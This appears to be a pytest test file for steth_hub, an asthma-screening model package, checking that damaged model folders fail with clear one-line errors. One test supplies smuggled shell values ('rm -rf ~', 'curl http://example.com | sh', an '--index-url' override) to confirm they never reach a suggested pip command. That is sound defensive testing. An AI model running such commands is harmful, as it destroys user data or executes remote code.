"""Issue 13, silent wrong answers: a model folder loads whole and consistent, or not at all.

Every case starts from a copy of the real embedded model (or a real MFCC baseline trained on the
shipped examples) and damages one thing; the error must be one line naming the folder and the fix.
"""

from __future__ import annotations

import json
import pickle
import shutil

import numpy as np
import pytest
from click.testing import CliRunner

from steth_hub.classifier import load_classifier, read_metadata
from steth_hub.errors import ModelError

pytestmark = pytest.mark.usefixtures("one_torch_thread")

EMBEDDED = "steth_hub/models/ast-asthma"


@pytest.fixture
def ast_copy(tmp_path):
    from pathlib import Path

    import steth_hub

    src = Path(steth_hub.__file__).parent / "models" / "ast-asthma"
    dst = tmp_path / "ast-copy"
    shutil.copytree(src, dst, ignore=shutil.ignore_patterns("model.onnx"))
    return dst


def _edit_meta(folder, **changes):
    meta = json.loads((folder / "steth.json").read_text())
    for key, value in changes.items():
        if value is KeyError:
            meta.pop(key, None)
        else:
            meta[key] = value
    (folder / "steth.json").write_text(json.dumps(meta))


def _tensors(folder):
    from safetensors.torch import load_file

    return load_file(str(folder / "model.safetensors"))


def _save(folder, tensors):
    from safetensors.torch import save_file

    save_file(tensors, str(folder / "model.safetensors"), metadata={"format": "pt"})


def _one_line(exc: Exception) -> str:
    text = str(exc)
    assert "\n" not in text, text
    return text


def test_the_intact_copy_loads(ast_copy):
    model = load_classifier(ast_copy)
    assert model.plugin_name == "ast"


# --------------------------------------------------------------------------- strict tensors
def test_a_missing_tensor_is_an_error_naming_the_folder_and_the_tensor(ast_copy):
    tensors = _tensors(ast_copy)
    name = sorted(tensors)[3]
    del tensors[name]
    _save(ast_copy, tensors)
    with pytest.raises(ModelError) as info:
        load_classifier(ast_copy)
    text = _one_line(info.value)
    assert str(ast_copy) in text and "missing" in text


def test_an_unexpected_tensor_is_an_error(ast_copy):
    import torch

    tensors = _tensors(ast_copy)
    tensors["classifier.extra.weight"] = torch.zeros(3)
    _save(ast_copy, tensors)
    with pytest.raises(ModelError, match="unexpected tensor.*classifier.extra.weight") as info:
        load_classifier(ast_copy)
    assert str(ast_copy) in _one_line(info.value)


def test_a_mis_shaped_tensor_is_an_error(ast_copy):
    import torch

    tensors = _tensors(ast_copy)
    name = sorted(k for k in tensors if k.endswith("bias"))[0]
    tensors[name] = torch.zeros(3, 3)
    _save(ast_copy, tensors)
    with pytest.raises(ModelError) as info:
        load_classifier(ast_copy)
    assert str(ast_copy) in _one_line(info.value)


# --------------------------------------------------------------------------- steth.json schema
@pytest.mark.parametrize("changes, field", [
    ({"threshold": float("nan")}, "threshold"),
    ({"threshold": 5.0}, "threshold"),
    ({"threshold": KeyError}, "threshold"),
    ({"threshold": "high"}, "threshold"),
    ({"threshold": True}, "threshold"),
    ({"sample_rate": 0}, "sample_rate"),
    ({"sample_rate": "16k"}, "sample_rate"),
    ({"labels": ["asthma", "not_asthma"]}, "labels"),
    ({"preset": "excerpt-10s"}, "preset"),
    ({"training": [1, 2]}, "training"),
])
def test_steth_json_is_validated_field_by_field(ast_copy, changes, field):
    _edit_meta(ast_copy, **changes)
    with pytest.raises(ModelError, match=f"steth.json is invalid: '{field}'") as info:
        read_metadata(ast_copy)
    text = _one_line(info.value)
    assert "fix:" in text and str(ast_copy) in text


def test_the_shipped_model_passes_the_schema():
    import steth_hub
    from pathlib import Path

    read_metadata(Path(steth_hub.__file__).parent / "models" / "ast-asthma")


# --------------------------------------------------------------------------- damaged weight files
def _truncate(path):
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])


@pytest.mark.parametrize("damage, reason", [
    (_truncate, "truncated"),
    (lambda p: p.write_bytes(b""), "empty"),
    (lambda p: p.write_bytes(np.random.default_rng(1).bytes(4096)), "not a safetensors file"),
    (lambda p: p.write_bytes(pickle.dumps({"weight": [1.0, 2.0]})), "pickle"),
    (lambda p: p.write_bytes(b"PK\x03\x04" + b"\x00" * 200), "pickle"),
    (lambda p: p.write_bytes(b"\x10\x00\x00\x00\x00\x00\x00\x00{\"a\": [1, 2, 3]}"), "malformed"),
])
def test_a_corrupt_safetensors_file_is_one_line_with_the_path_and_the_fix(ast_copy, damage, reason):
    import steth_hub

    damage(ast_copy / "model.safetensors")
    with pytest.raises(ModelError, match=reason) as info:
        steth_hub.from_pretrained(ast_copy)
    text = _one_line(info.value)
    assert str(ast_copy / "model.safetensors") in text and "fix:" in text


def test_torch_save_renamed_is_refused_as_pickle(ast_copy):
    import torch

    torch.save({"w": torch.zeros(2)}, ast_copy / "model.safetensors")
    with pytest.raises(ModelError, match="pickle"):
        load_classifier(ast_copy)


# --------------------------------------------------------------------------- configuration faults
def test_a_model_configuration_fault_is_blamed_on_the_model_not_the_recording(ast_copy, example_wavs):
    from steth_hub.cli import main

    _edit_meta(ast_copy, ast=KeyError)  # no 'ast' block: the front end no longer fits the weights
    with pytest.raises(ModelError, match="configuration is inconsistent") as info:
        load_classifier(ast_copy)
    assert str(ast_copy) in _one_line(info.value)
    result = CliRunner().invoke(main, ["screen", str(example_wavs[0]), "--model", str(ast_copy)])
    assert result.exit_code != 0
    assert str(ast_copy) in result.output and "recording attached" not in result.output
    assert "file attached" not in result.output


# --------------------------------------------------------------------------- suggested installs
@pytest.mark.parametrize("dist, shown", [("steth-extra-models", True), ("evil; rm -rf ~", False),
                                         ("x && curl http://example.com | sh", False), ("--index-url=http://x", False)])
def test_the_distribution_is_suggested_only_when_it_is_a_valid_name(ast_copy, dist, shown):
    _edit_meta(ast_copy, plugin="not-installed-plugin", distribution=dist)
    with pytest.raises(ModelError) as info:
        load_classifier(ast_copy)
    text = _one_line(info.value)
    assert (f"pip install {dist}" in text) is shown
    if not shown:
        assert dist not in text


# --------------------------------------------------------------------------- the MFCC baseline
@pytest.fixture(scope="module")
def mfcc_dir(examples_dir, tmp_path_factory):
    from steth_builtin.mfcc_logreg import MFCCLogReg

    from steth_hub.audio import decode
    from steth_hub.clips import ClipSet

    waves, labels, recs = [], [], []
    for path in sorted((examples_dir / "kauh").glob("*.wav")):
        rec = decode(path)
        for k in range(2):
            waves.append(rec.samples[k * 4000 * 4:(k + 1) * 4000 * 4])
            labels.append(int("asthma" in path.name.lower()))
            recs.append(path.stem)
    clips = ClipSet(np.stack(waves), 4000, labels, recs, recs, np.zeros(len(waves)))
    model = MFCCLogReg.from_config({"n_mfcc": 13})
    model.fit(clips)
    out = tmp_path_factory.mktemp("mfcc") / "model"
    model.save_pretrained(out)
    return out


@pytest.mark.parametrize("change, reason", [("drop", "missing coef"), ("extra", "unexpected extra"),
                                            ("short", "coef has shape"), ("nan", "NaN")])
def test_the_mfcc_baseline_loads_strictly(mfcc_dir, tmp_path, change, reason):
    from safetensors.numpy import load_file, save_file

    folder = tmp_path / "m"
    shutil.copytree(mfcc_dir, folder)
    load_classifier(folder)  # intact
    tensors = load_file(str(folder / "model.safetensors"))
    if change == "drop":
        del tensors["coef"]
    elif change == "extra":
        tensors["extra"] = np.zeros(2)
    elif change == "short":
        tensors["coef"] = tensors["coef"][:-6]
    else:
        tensors["coef"] = tensors["coef"].copy()
        tensors["coef"][0] = np.nan
    save_file(tensors, str(folder / "model.safetensors"))
    with pytest.raises(ModelError, match=reason):
        load_classifier(folder)


# --------------------------------------------------------------------------- --model / must not walk the disk
@pytest.mark.parametrize("where", ["/", "HOME_LIKE"])
def test_a_folder_that_is_not_a_model_is_refused_without_walking_it(tmp_path, monkeypatch, where):
    from pathlib import Path

    import steth_hub

    if where == "HOME_LIKE":  # a parent folder with a model deep inside it
        where = tmp_path
        (tmp_path / "a" / "b" / "c").mkdir(parents=True)
        (tmp_path / "a" / "b" / "c" / "model.safetensors").write_bytes(b"x")

    def no_walk(self, *args, **kwargs):
        raise AssertionError(f"walked {self}")

    monkeypatch.setattr(Path, "rglob", no_walk)
    monkeypatch.setattr(Path, "walk", no_walk, raising=False)
    with pytest.raises(ModelError, match="not a model folder") as info:
        steth_hub.from_pretrained(str(where))
    assert "fix:" in _one_line(info.value)


def test_steth_screen_with_model_root_is_a_quick_clear_error(example_wavs):
    import time

    from steth_hub.cli import main

    started = time.perf_counter()
    result = CliRunner().invoke(main, ["screen", str(example_wavs[0]), "--model", "/"])
    assert result.exit_code != 0 and "not a model folder" in result.output
    assert time.perf_counter() - started < 30
